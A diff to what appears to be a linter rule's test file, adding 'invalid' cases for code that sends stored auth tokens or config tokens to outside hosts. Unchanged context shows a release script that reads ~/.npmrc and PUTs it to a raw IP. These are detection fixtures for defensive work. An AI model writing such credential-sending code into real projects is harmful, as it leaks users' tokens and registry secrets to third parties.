@@ -38,6 +38,27 @@ ruleTester(rule, {
   ],
   invalid: [
     {
+      name: 'a stored token sent as the auth header of a request is not a credential in the body',
+      code: "const token = await SecureStore.getItemAsync('auth_token'); await fetch('/api/me', { headers: { Authorization: `Bearer ${token}` } });",
+      errors: [{ messageId: 'request', line: 1 }],
+    },
+    {
+      name: 'a credential in a payload object built before the request',
+      code: "import { config } from './config';\nconst payload = { message: 'x', bot: { auth: config.token } };\nawait fetch('https://hooks.example.net/errors', { method: 'POST', body: JSON.stringify(payload) });",
+      errors: [
+        { messageId: 'credentialSent', line: 2, category: 'secrets', severity: 'high' },
+        { messageId: 'request', line: 3 },
+      ],
+    },
+    {
+      name: 'a token read from the device credential store sent to an analytics host',
+      code: "import * as SecureStore from 'expo-secure-store';\nconst body = { name: 'x', session: await SecureStore.getItemAsync('auth_token') };\nfetch('https://collect.example.io/v1/events', { method: 'POST', body: JSON.stringify(body) });",
+      errors: [
+        { messageId: 'credentialSent', line: 2, category: 'secrets' },
+        { messageId: 'request', line: 3 },
+      ],
+    },
+    {
       code: "import https from 'node:https'; import { readFile } from 'node:fs/promises'; import os from 'node:os';\nconst rc = await readFile(os.homedir() + '/.npmrc', 'utf8');\nconst req = https.request({ host: '104.248.31.7', method: 'PUT' });\nreq.end(JSON.stringify({ rc }));",
       filename: 'scripts/release.mjs',
       errors: [
